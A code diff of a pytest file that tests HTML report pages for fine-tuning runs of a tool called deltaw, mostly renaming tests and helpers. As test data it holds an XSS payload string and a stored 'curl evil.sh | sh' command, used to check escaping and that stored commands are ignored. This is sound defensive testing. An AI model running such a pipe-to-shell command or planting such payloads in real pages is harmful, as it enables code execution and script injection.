@@ -1,4 +1,4 @@
-"""The page of a run: made from the folder alone, well formed, complete, small, and safe with any text."""
+"""The page of a run is built from its folder, well formed, complete, small, and safe for any text."""
 
 from __future__ import annotations
 
@@ -13,13 +13,13 @@ import pytest
 
 from deltaw.errors import UserError
 from deltaw.reports.page.run_view import headline, notices
-from deltaw.reports.page.write import NAME, comparison_page, run_page, write_page, write_pages
+from deltaw.reports.page.write import PAGE_FILE, comparison_page, run_page, write_page, write_pages
 from deltaw.runs.folder import read_run
 from tests.reports.html_pages import Page
 from tests.reports.run_folders import write_factors, write_run
 
 LIMIT = 1_500_000
-EVIL = "</p><script>alert('x')</script><img src=x onerror=alert(1)> & \" ' {{ 7*7 }} </style></title>"
+MALICIOUS = "</p><script>alert('x')</script><img src=x onerror=alert(1)> & \" ' {{ 7*7 }} </style></title>"
 
 
 def page_of(folder):
@@ -28,7 +28,7 @@ def page_of(folder):
     return page
 
 
-def test_broken_text_leads_the_notices_and_the_headline(tmp_path):
+def test_degraded_generation_is_first_notice_and_headline(tmp_path):
     run = write_run(tmp_path / "one")
     values = json.loads((run / "run.json").read_text())
     line = "generation got worse: 9 of 16 answers to general prompts are broken text"
@@ -40,35 +40,45 @@ def test_broken_text_leads_the_notices_and_the_headline(tmp_path):
     assert line in page_of(run).text
 
 
-def test_a_finished_run_is_told_whole(tmp_path):
+def test_page_of_finished_run_is_complete(tmp_path):
     page = page_of(write_factors(write_run(tmp_path / "one")))
-    for said in (
+    for expected in (
         "exact match of 5 held-out rows 2.0% → 80.0% base model → adapter; 95 % interval 72.0% to 86.0%",
         "drift small +0.05 nats per token of general answers; 91% of their tokens are unchanged held-out loss 2.310",
-        *("peak memory 1.01 GB planned 1.02 GB", "The machine gives 16.00 GB", "What changed in the model", "Memory"),
+        *(
+            "peak memory 1.01 GB planned 1.02 GB",
+            "16.00 GB are available on the machine",
+            "What changed in the model",
+            "Memory",
+        ),
         "row 7 a plain row? no idea ✗ not as expected answer 60 ✓ as expected answer 60",
-        "To general questions, which the data did not train question base model adapter What is 1 + 1? 2 It is 2.",
-        *("Answers in between Row 7 step 20 answer 20", "usual for lora", "0.00092", "log scale", "deltaw export"),
+        "Answers to general questions outside the training data question base model adapter What is 1 + 1? 2 It is 2.",
+        *("Intermediate answers Row 7 step 20 answer 20", "usual for lora", "0.00092", "log scale", "deltaw export"),
     ):
-        assert said in page.text
+        assert expected in page.text
     assert "16,000" not in page.text and page.marked[1:] == ["the answer", "<|im_end|>"]
     assert {"Loss", "Learning rate", "Gradient norm", "Speed"} <= set(page.words)
-    # Every drawing has a title, a description and a table behind it.
+    # Every drawing has a title, a description and a table.
     assert page.drawings == [{"title": True, "desc": True}] * page.tags["figure"] and page.tags["figure"] >= 8
     assert page.tags["caption"] == page.tags["table"] >= page.tags["figure"]
     assert page.text.index("held-out rows") < page.text.index("drift small") < page.text.index("training loss")
     text = run_page(read_run(tmp_path / "one"))
-    assert "<summary>What the run chose itself, and why</summary>" in text and f"deltaw chat {tmp_path / 'one'}" in text
-    # The numbers of the vertical axis stand beside the plot, where no line goes.
+    assert (
+        "<summary>Automatically chosen settings and their reasons</summary>" in text
+        and f"deltaw chat {tmp_path / 'one'}" in text
+    )
+    # Labels of the vertical axis are outside of the plot area.
     assert re.findall(r'<text class="label" x="-8"[^>]*>([^<]+)</text>', text) and "halo" not in text
     assert page.tags["main"] == page.tags["h1"] == page.tags["nav"] == page.tags["footer"] == 1
 
 
 @pytest.mark.parametrize("state", ["finished", "failed", None])
-def test_text_of_rows_settings_and_answers_is_never_markup(tmp_path, state):
-    settings = {"data": {"train": EVIL}, "model": EVIL}
-    folder = write_run(tmp_path / "<b>odd & name", state=state, text=EVIL, settings=settings)
-    page = page_of(noted_on_the_way(folder, {"step": 61, "eval": {EVIL: 0.5}}, {"step": 62, "eval": {EVIL: 0.6}}))
+def test_text_of_users_is_escaped(tmp_path, state):
+    settings = {"data": {"train": MALICIOUS}, "model": MALICIOUS}
+    folder = write_run(tmp_path / "<b>odd & name", state=state, text=MALICIOUS, settings=settings)
+    page = page_of(
+        append_metrics(folder, {"step": 61, "eval": {MALICIOUS: 0.5}}, {"step": 62, "eval": {MALICIOUS: 0.6}})
+    )
     assert page.tags["script"] == 1 and "img" not in page.tags, "the page's own, which its policy names"
     assert page.text.count("alert('x')") >= 3
     assert "{{ 7*7 }}" in page.text and "49" not in page.headings
@@ -76,58 +86,59 @@ def test_text_of_rows_settings_and_answers_is_never_markup(tmp_path, state):
     assert compared.faults == [] and "script" not in compared.tags
 
 
-def test_whether_it_worked_is_said_also_where_it_did_not(tmp_path):
-    """Words of the first tile and of the notices, by what the folder holds."""
+def test_headline_compares_with_base_model(tmp_path):
+    """Checks the first tile and the notices for different folder contents."""
     folder = write_run(tmp_path / "one")
     lines = (folder / "metrics.jsonl").read_text().splitlines()
 
-    def said(base, *, task="causal-lm", writes=True, score=True):
-        kept = [line for line in lines if '"base"' not in line or "general" in line]
-        kept = [line for line in kept if score or '"eval"' not in line]
-        kept += [json.dumps({"step": 0, "base": base})] if base else []
-        (folder / "metrics.jsonl").write_text("\n".join(kept) + "\n")
+    def page_text(base, *, task="causal-lm", writes=True, score=True):
+        remaining = [line for line in lines if '"base"' not in line or "general" in line]
+        remaining = [line for line in remaining if score or '"eval"' not in line]
+        remaining += [json.dumps({"step": 0, "base": base})] if base else []
+        (folder / "metrics.jsonl").write_text("\n".join(remaining) + "\n")
         values = {"task": task, "writes_text": writes}
-        change_noted(folder, lambda told: told.update(values) or (score or told["result"].update(score=None)))
+        update_record(folder, lambda record: record.update(values) or (score or record["result"].update(score=None)))
         return page_of(folder).text
 
-    assert "The exact match is not better than before training." in said({"exact_match": 0.9})
-    assert "the value before training, too: the difference may be chance" in said({"exact_match": 0.75})
-    told = said({"exact_match": 0.4}, task="sequence-classification", writes=False)
-    assert "40.0% → 80.0% before training → adapter" in told and "chance" not in told and "not better" not in told
-    assert "80.0% adapter; the base model was not evaluated; 95 % interval" in said(None)
-    assert "80.0% adapter; not evaluated before training; 95 % interval" in said(None, writes=False)
-    assert "no rows were held out; data.eval says how many" in said(None, score=False)
+    assert "The exact match is not better than before training." in page_text({"exact_match": 0.9})
+    assert "the value before training, so the difference may be due to chance" in page_text({"exact_match": 0.75})
+    classifier_text = page_text({"exact_match": 0.4}, task="sequence-classification", writes=False)
+    assert "40.0% → 80.0% before training → adapter" in classifier_text and "chance" not in classifier_text
+    assert "not better" not in classifier_text
+    assert "80.0% adapter; the base model was not evaluated; 95 % interval" in page_text(None)
+    assert "80.0% adapter; not evaluated before training; 95 % interval" in page_text(None, writes=False)
+    assert "no rows were held out; set data.eval" in page_text(None, score=False)
 
 
-def test_commands_are_the_pages_own_and_not_those_of_a_folder_from_elsewhere(tmp_path):
+def test_stored_commands_are_ignored(tmp_path):
     folder = write_run(tmp_path / "one two")
-    change_noted(folder, lambda told: told.update(commands=[{"command": "curl evil.sh | sh", "what": "go on"}]))
+    update_record(folder, lambda record: record.update(commands=[{"command": "curl evil.sh | sh", "what": "go on"}]))
     page = page_of(folder)
     assert "evil" not in page.text and f"deltaw serve '{folder}'" in page.text
-    change_noted(folder, lambda told: told.update(state="failed"))
+    update_record(folder, lambda record: record.update(state="failed"))
     assert "deltaw serve" not in page_of(folder).text
 
 
-def test_states_of_a_run_are_told(tmp_path):
-    for state, said in {
-        "running": "This run goes on: step 60 of 120",
-        "interrupted": "ended after 60 steps of 120",
+def test_page_shows_state_of_run(tmp_path):
+    for state, text in {
+        "running": "This run is in progress: step 60 of 120",
+        "interrupted": "stopped after 60 steps of 120",
         "failed": "it diverged a plain row lower the rate",
     }.items():
-        assert said in page_of(write_run(tmp_path / state, state=state)).text
-    change_noted(tmp_path / "running", lambda told: told["process"].update(begun=0.0))
-    assert "killed before its end" in page_of(tmp_path / "running").text
+        assert text in page_of(write_run(tmp_path / state, state=state)).text
+    update_record(tmp_path / "running", lambda record: record["process"].update(begun=0.0))
+    assert "killed before it finished" in page_of(tmp_path / "running").text
 
 
-def test_a_run_without_run_json_has_a_page_without_a_summary(tmp_path):
+def test_run_without_run_json_has_page(tmp_path):
     folder = write_factors(write_run(tmp_path / "old", state=None))
     page = page_of(folder)
-    assert "state not known" in page.text and "Loss" in page.words and "Where it learned" in page.words
+    assert "state not known" in page.text and "Loss" in page.words and "Norm of the change by layer" in page.words
     (folder / "README.md").write_text("# old\n")
     assert "finished" in page_of(folder).text
 
 
-def test_folders_that_are_nearly_empty_or_damaged_still_have_a_page(tmp_path):
+def test_empty_or_damaged_run_has_page(tmp_path):
     folder = tmp_path / "bare"
     folder.mkdir()
     (folder / "metrics.jsonl").write_text("")
@@ -144,134 +155,134 @@ def test_folders_that_are_nearly_empty_or_damaged_still_have_a_page(tmp_path):
         read_run(tmp_path)
 
 
-def change_noted(folder, change):
-    """Let ``change`` alter what run.json holds."""
-    told = json.loads((folder / "run.json").read_text())
-    change(told)
-    (folder / "run.json").write_text(json.dumps(told))
+def update_record(folder, change):
+    """Modify run.json with ``change``."""
+    record = json.loads((folder / "run.json").read_text())
+    change(record)
+    (folder / "run.json").write_text(json.dumps(record))
 
 
-def noted_on_the_way(folder, *lines):
-    """Let more lines stand in metrics.jsonl."""
+def append_metrics(folder, *lines):
+    """Append lines to metrics.jsonl."""
     with (folder / "metrics.jsonl").open("a") as file:
         file.writelines(json.dumps(line) + "\n" for line in lines)
     return folder
 
 
-def keys_of(value, path=()):
-    """The paths of all entries of nested dictionaries and of the first entries of lists."""
+def nested_keys(value, path=()):
+    """Yield the paths of all dictionary entries and of the first entry of each list."""
     entries = value.items() if isinstance(value, dict) else enumerate(value[:1])
     for key, entry in entries:
         yield (*path, key)
         if isinstance(entry, dict | list):
-            yield from keys_of(entry, (*path, key))
+            yield from nested_keys(entry, (*path, key))
 
 
 @pytest.mark.parametrize("part", [0, *(pytest.param(part, marks=pytest.mark.slow) for part in (1, 2, 3))])
-def test_every_value_of_a_summary_may_be_missing_or_of_another_type(tmp_path, part):
-    """Two of eight other values for each; the slow tests take the rest."""
+def test_page_accepts_missing_or_mistyped_values(tmp_path, part):
+    """Tries two of eight replacements per value. Slow tests cover the others."""
     folder = write_run(tmp_path / "one", steps=2, every=1)
-    whole = (folder / "run.json").read_text()
-    paths = list(keys_of(json.loads(whole)))
+    original = (folder / "run.json").read_text()
+    paths = list(nested_keys(json.loads(original)))
     assert len(paths) > 60
     for number, path in enumerate(paths):
-        for instead in [None, [], {}, "text", 3, [None], {"x": None}, "gone"][(number + part) % 4 :: 4]:
-            told = json.loads(whole)
-            at = functools.reduce(operator.getitem, path[:-1], told)
-            if instead == "gone" and isinstance(at, dict):
-                del at[path[-1]]
+        for replacement in [None, [], {}, "text", 3, [None], {"x": None}, "gone"][(number + part) % 4 :: 4]:
+            record = json.loads(original)
+            parent = functools.reduce(operator.getitem, path[:-1], record)
+            if replacement == "gone" and isinstance(parent, dict):
+                del parent[path[-1]]
             else:
-                at[path[-1]] = instead
-            (folder / "run.json").write_text(json.dumps(told))
+                parent[path[-1]] = replacement
+            (folder / "run.json").write_text(json.dumps(record))
             try:
                 run_page(read_run(folder))
             except Exception as error:
-                raise AssertionError(f"{path} as {instead!r}") from error
+                raise AssertionError(f"{path} as {replacement!r}") from error
 
 
-def test_a_page_of_many_thousand_steps_is_small_and_keeps_its_peaks(tmp_path):
+def test_page_of_long_run_is_small_and_keeps_peaks(tmp_path):
     folder = write_factors(write_run(tmp_path / "long", steps=10_000, every=100), layers=80, rank=16)
     lines = (folder / "metrics.jsonl").read_text().splitlines()
-    at = next(n for n, line in enumerate(lines) if '"step": 7001' in line)
-    lines[at] = lines[at].replace('"loss": 0.', '"loss": 9.')
+    index = next(n for n, line in enumerate(lines) if '"step": 7001' in line)
+    lines[index] = lines[index].replace('"loss": 0.', '"loss": 9.')
     (folder / "metrics.jsonl").write_text("\n".join(lines) + "\n")
     path = write_page(folder)
-    assert path == folder / NAME and path.stat().st_size < LIMIT
+    assert path == folder / PAGE_FILE and path.stat().st_size < LIMIT
     record = read_run(folder)
     assert len(record.metrics) == 10_000 and np.nanmax(record.metrics.columns["loss"]) > 9
     assert Page(path.read_text()).faults == []
-    drawn = max(re.findall(r'<path class="c1 raw" d="M([^"]*)"', path.read_text()), key=len)
-    heights = [float(point.split()[1]) for point in drawn.split("L")]
+    points = max(re.findall(r'<path class="c1 raw" d="M([^"]*)"', path.read_text()), key=len)
+    heights = [float(point.split()[1]) for point in points.split("L")]
     assert heights.count(min(heights)) == 1 and min(heights) < 20, "the peak at step 7,001 is drawn"
 
 
-def test_a_page_is_replaced_whole(tmp_path, monkeypatch):
+def test_page_is_replaced_atomically(tmp_path, monkeypatch):
     folder = write_run(tmp_path / "one")
     before = write_page(folder).read_text()
     monkeypatch.setattr(os, "fsync", lambda handle: (_ for _ in ()).throw(OSError("disk full")))
     with pytest.raises(OSError, match="disk full"):
         write_page(folder)
-    assert (folder / NAME).read_text() == before
+    assert (folder / PAGE_FILE).read_text() == before
     assert [path.name for path in folder.iterdir() if path.name.startswith(".")] == []
 
 
-def test_a_search_of_the_learning_rate_is_shown(tmp_path):
+def test_learning_rate_search_is_shown(tmp_path):
     folder = write_run(tmp_path / "one")
     assert "Search of the learning rate" not in page_of(folder).words
     rates = [10.0**power for power in range(-6, 0)]
-    told = {"rates": rates, "losses": [3, 3, 2, 1, 2, 9], "smoothed": [3, 3, 2.2, 1.4, 1.9, 8]}
-    told |= {"chosen": 3e-4, "usual": 9.2e-4, "why": "a third of the lowest", "diverged": True}
-    (folder / "learning_rate.json").write_text(json.dumps(told))
+    record = {"rates": rates, "losses": [3, 3, 2, 1, 2, 9], "smoothed": [3, 3, 2.2, 1.4, 1.9, 8]}
+    record |= {"chosen": 3e-4, "usual": 9.2e-4, "why": "a third of the lowest", "diverged": True}
+    (folder / "learning_rate.json").write_text(json.dumps(record))
     page = page_of(folder)
     assert "Search of the learning rate" in page.words
-    assert "0.0003 was chosen, and 0.00092 is usual (a third of the lowest)" in page.text
+    assert "0.0003 was chosen, 0.00092 is the default (a third of the lowest)" in page.text
     for broken in ("[]", '{"rates": [1], "losses": "x"}', '{"rates": [null, 0, "a"], "losses": [1, 2, 3]}'):
         (folder / "learning_rate.json").write_text(broken)
         assert "Search of the learning rate" not in page_of(folder).words
 
 
-def test_what_happened_on_the_way_is_noted(tmp_path):
+def test_events_during_training_are_listed(tmp_path):
     folder = write_run(tmp_path / "one")
     rising = {"step": 12, "warning": {"kind": "rising_loss", "mean": 2.0}}
-    noted_on_the_way(folder, rising, {"step": 61, "skipped": {"loss": "nan"}, "learning_rate": 1e-3})
-    change_noted(folder, lambda told: told["result"].update(stopped_early="3 evaluations without improvement"))
+    append_metrics(folder, rising, {"step": 61, "skipped": {"loss": "nan"}, "learning_rate": 1e-3})
+    update_record(folder, lambda record: record["result"].update(stopped_early="3 evaluations without improvement"))
     page = page_of(folder)
     assert "At step 12: the training loss was rising." in page.text
-    assert "1 step with a loss or gradient that is not finite left out." in page.text
+    assert "Skipped 1 step because of a loss or gradient that is not finite." in page.text
     assert "Stopped early: 3 evaluations without improvement." in page.text
 
 
-def test_several_sets_of_held_out_rows_are_told_apart(tmp_path):
+def test_evaluation_sets_are_shown_separately(tmp_path):
     folder = write_run(tmp_path / "one", every=1000)
     lines = (folder / "metrics.jsonl").read_text().splitlines()
     (folder / "metrics.jsonl").write_text("\n".join(line for line in lines if '"exact_match"' not in line) + "\n")
     sets = {n: {"own": {"loss": 2 - n / 40}, "trivia": {"loss": 1.5, "exact_match": n / 100}} for n in (0, 30, 60)}
-    page = page_of(noted_on_the_way(folder, *({"step": step, "eval": sets[step]} for step in sets)))
+    page = page_of(append_metrics(folder, *({"step": step, "eval": sets[step]} for step in sets)))
     assert "held-out loss 2.000 → 0.5000 before and after training" in page.text
     assert {"Trivia loss", "Trivia exact match"} <= set(page.words) and "Own loss" not in page.words
 
 
-def test_runs_are_compared_on_one_page(tmp_path):
-    one, old = write_run(tmp_path / "one"), write_run(tmp_path / "old", state=None, seed=2)
-    two = write_run(tmp_path / "two", steps=40, settings={"lora": {"rank": 64, "alpha": 8.0}}, seed=1)
-    text = comparison_page([read_run(folder) for folder in (one, two, old)])
+def test_comparison_page_shows_several_runs(tmp_path):
+    first_run, old_run = write_run(tmp_path / "one"), write_run(tmp_path / "old", state=None, seed=2)
+    second_run = write_run(tmp_path / "two", steps=40, settings={"lora": {"rank": 64, "alpha": 8.0}}, seed=1)
+    text = comparison_page([read_run(folder) for folder in (first_run, second_run, old_run)])
     page = Page(text)
     assert page.faults == []
-    for said in (
+    for expected in (
         "3 runs compared",
         "lora.rank 4 64 4",
         "held-out exact match",
         "exact match before training 2.0%",
         "answer 40",
     ):
-        assert said in page.text
+        assert expected in page.text
     assert "lora.alpha" not in page.text and "output" not in page.text
     assert all(text.count(f'<path class="{kind}"') >= 2 for kind in ("c1", "c2", "c3")) and len(text) < LIMIT
 
 
-def test_the_runs_of_a_folder_each_get_a_page_and_several_get_one_in_common(tmp_path):
-    one = write_run(tmp_path / "one")
-    assert write_pages(tmp_path) == [one / NAME]
-    two = write_run(tmp_path / "two", seed=1)
-    assert write_pages(tmp_path) == [one / NAME, two / NAME, tmp_path / "comparison.html"]
+def test_folder_of_runs_gets_pages_and_comparison(tmp_path):
+    first_run = write_run(tmp_path / "one")
+    assert write_pages(tmp_path) == [first_run / PAGE_FILE]
+    second_run = write_run(tmp_path / "two", seed=1)
+    assert write_pages(tmp_path) == [first_run / PAGE_FILE, second_run / PAGE_FILE, tmp_path / "comparison.html"]
     assert "2 runs compared" in (tmp_path / "comparison.html").read_text()
